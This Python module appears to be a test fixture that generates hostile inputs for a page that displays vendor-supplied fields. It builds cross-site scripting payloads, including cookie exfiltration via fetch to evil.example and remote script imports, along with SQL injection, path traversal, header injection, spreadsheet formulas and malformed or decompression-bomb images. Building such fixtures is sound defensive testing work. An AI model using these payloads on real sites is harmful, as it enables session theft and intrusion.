"""What vendors could write into every field, so that a page that shows it acts on it."""

from __future__ import annotations

import io
import struct
import zlib
from itertools import product

_ACTS = (
    "window.owned=1",
    "document.title='owned'",
    "fetch('//evil.example/'+document.cookie)",
    "import('//evil.example/x.js')",
    "alert(1)",
    "top.location='//evil.example'",
)
_FORMS = (
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '<img src=x onerror="{}">',
    '" onmouseover="{}" autofocus onfocus="{}" x="',
    "' onfocus='{}' autofocus tabindex=1 x='",
    '<svg onload="{}"></svg>',
    '<svg><script href="//evil.example/x.js">{}</script></svg>',
    '<svg><animate onbegin="{}" attributeName=x dur=1s></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{}">',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}" autofocus>x</a>',
    "javascript:{}",
    "JaVaScRiPt:{}//",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    '<base href="//evil.example/"><script>{}</script>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="//evil.example/x.css"><script>{}</script>',
    "<style>@import '//evil.example/x.css';</style><script>{}</script>",
    '<video><source onerror="{}"></video>',
    '<details open ontoggle="{}">',
    '<input autofocus onfocus="{}">',
    '<body onload="{}">',
    '<marquee onstart="{}">',
    '<form action="//evil.example"><button>x</button></form><script>{}</script>',
    '<x hx-get="//evil.example/" hx-trigger="load" hx-on:load="{}">',
    '<div hx-on::after-settle="{}" hx-vals="js:{{x:{}}}" hx-trigger=load hx-get="/">',
    '{{{{constructor.constructor("{}")()}}}}',
    "${{{}}}",
    "{{% for x in ().__class__.__bases__ %}}{}{{% endfor %}}",
    "<%= {} %>",
    "#{{{}}}",
    "`;{};`",
    '\\";{};//',
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<script\x0b>{}</script\x0b>",
)
_ODD = (
    "\u202egnp.exe",
    "\u2066\u2069\u200b\u200d\ufeff",
    "e\u0301" * 500,
    "A" * 20_000,
    "\u0e49" * 2_000,
    "\x1b]0;owned\x07\x1b[31mred",
    "\r\nSet-Cookie: owned=1",
    "../../../../etc/passwd",
    "'; DROP TABLE review_case; --",
    '=HYPERLINK("//evil.example")',
    "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
    "\ud7ff\ue000\uffff\U0010ffff",
    "",
    " ",
)


def texts() -> list[str]:
    """More than three hundred texts, each another attempt."""
    made = [form.format(*[act] * form.count("{}")) for form, act in product(_FORMS, _ACTS)]
    return [*made, *_ODD]


def pictures() -> list[bytes]:
    """Broken ones, bombs, and other things that say that they are pictures."""
    from PIL import Image

    good = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(good, "PNG")
    png = good.getvalue()
    gif = io.BytesIO()
    frames = [Image.new("P", (8, 8), color) for color in range(40)]
    frames[0].save(gif, "GIF", save_all=True, append_images=frames[1:])
    jpeg = io.BytesIO()
    comment = b"<script>window.owned=1</script>"
    Image.new("RGB", (8, 8)).save(jpeg, "JPEG", comment=comment)
    return [
        png,
        png[: len(png) // 2],
        png[:8] + b"\x00" * 64,
        _huge_png(60_000, 60_000),
        _huge_png(2**31 - 1, 1),
        png + b"<script>window.owned=1</script>",
        gif.getvalue(),
        jpeg.getvalue(),
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>",
        b"<!doctype html><script>window.owned=1</script>",
        b"GIF89a/*" + b"\x00" * 16 + b"*/=1;window.owned=1",
        b"\xff\xd8\xff\xe0" + b"\x00" * 100,
        b"RIFF\x04\x00\x00\x00WEBPVP8 ",
        b"II*\x00\x08\x00\x00\x00\xff\xff",
        b"%PDF-1.7",
        b"",
    ]


def _huge_png(width: int, height: int) -> bytes:
    """A few bytes that say that they are a picture of many pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", header), (b"IDAT", zlib.compress(b"\x00" * 100_000)), (b"IEND", b"")]
    chunks = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)
